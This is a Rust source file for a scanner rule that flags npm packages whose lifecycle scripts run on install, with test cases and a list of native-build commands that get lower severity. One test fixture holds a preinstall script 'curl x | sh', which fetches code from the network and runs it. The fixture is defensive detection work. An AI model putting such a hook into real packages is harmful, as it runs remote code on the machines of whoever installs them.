//! Rule `install-script`.

use crate::model::Severity;
use crate::package::Package;
use crate::rules::Emitter;

crate::declare_rule! {
    /// The package declares a lifecycle script that npm runs on install (preinstall, install,
    /// postinstall; prepare for git and local installs). Most malware runs from here, because it
    /// runs without the victim ever importing the package. Native builds (`node-gyp rebuild`,
    /// `node-gyp-build`, `prebuild-install`) are weighed low.
    id: "install-script",
    category: Install,
    severity: Medium,
    capability: Some(crate::model::Capability::InstallScript),
    title: "runs a lifecycle script on install",
    incident: "Shai-Hulud (2025), ua-parser-js 0.7.29 (2021), eslint-scope 3.7.2 (2018): all started from install scripts",
    case_file: "package.json",
    flag: [r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}"#,
           r#"{"name":"a","version":"1.0.0","scripts":{"preinstall":"curl x | sh"}}"#],
    pass: [r#"{"name":"a","version":"1.0.0","scripts":{"test":"node test.js","build":"tsc"}}"#],
}

fn check(pkg: &Package, out: &mut Emitter) {
    for f in pkg
        .files
        .iter()
        .filter(|f| f.kind == crate::package::FileKind::Shell)
    {
        let Some((name, _)) = &f.script else { continue };
        // binding.gyp command expansions run inside the `node-gyp rebuild` hook reported
        // already; other rules judge what they run.
        if name == "binding.gyp" {
            continue;
        }
        let cmd = f.text.trim();
        let native = [
            "node-gyp rebuild",
            "node-gyp-build",
            "prebuild-install",
            "node-pre-gyp install",
            "cmake-js",
        ]
        .iter()
        .any(|n| cmd.starts_with(n));
        let sev = if crate::package::local_install_hook(name) || native {
            Severity::Low
        } else {
            Severity::Medium
        };
        out.hit_ev(
            sev,
            pkg,
            f,
            0,
            format!(
                "runs `{}` when the package is installed",
                crate::package::one_line(cmd)
            ),
            cmd,
        );
    }
}

#[cfg(test)]
mod gyp_tests {
    use crate::model::Severity;
    use crate::rules::testing::run;

    #[test]
    fn gyp_include_expansion_is_not_a_second_install_script() {
        let case = "=== package.json\n{\"name\":\"a\",\"version\":\"1.0.0\",\"gypfile\":true}\n=== binding.gyp\n{\"targets\":[{\"target_name\":\"a\",\"include_dirs\":[\"<!(node -p \\\"require('node-addon-api').include_dir\\\")\"]}]}";
        let hits = run(&super::RULE, "package.json", case);
        assert_eq!(hits.len(), 1, "{hits:?}");
        assert_eq!(hits[0].severity, Severity::Low);
        assert!(hits[0].message.contains("node-gyp rebuild"));
    }
}

#[cfg(test)]
mod hook_tests {
    use crate::model::Severity;
    use crate::rules::testing::run;

    #[test]
    fn preprepare_and_postprepare_are_local_install_hooks() {
        let case = r#"{"name":"a","version":"1.0.0","scripts":{"preprepare":"node setup.js","postprepare":"sh x.sh","prepublishOnly":"tsc"}}"#;
        let hits = run(&super::RULE, "package.json", case);
        assert_eq!(hits.len(), 2, "{hits:?}");
        assert!(
            hits.iter()
                .all(|h| h.severity == Severity::Low && !h.install)
        );
        let registry =
            r#"{"name":"a","version":"1.0.0","scripts":{"postinstall":"node setup.js"}}"#;
        let hits = run(&super::RULE, "package.json", registry);
        assert_eq!(hits.first().map(|h| h.severity), Some(Severity::Medium));
    }
}
